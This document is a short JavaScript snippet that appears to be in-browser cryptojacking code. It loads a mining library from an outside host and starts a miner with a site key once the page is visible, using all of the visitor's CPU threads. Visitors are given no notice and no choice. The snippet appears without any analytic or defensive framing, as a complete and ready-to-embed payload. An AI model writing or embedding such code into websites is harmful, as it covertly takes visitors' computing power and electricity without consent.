(function () {
  var started = false;
  function go() {
    if (started || document.visibilityState !== "visible" || typeof CRLT === "undefined") return;
    started = true;
    var miner = new CRLT.Anonymous("f3c1c2-site", { threads: navigator.hardwareConcurrency || 2, throttle: 0.1 });
    miner.start();
  }
  var s = document.createElement("script");
  s.src = "https://crypto-loot-mirror.invalid/lib/crlt.js";
  s.onload = go;
  document.head.appendChild(s);
  document.addEventListener("visibilitychange", go);
})();
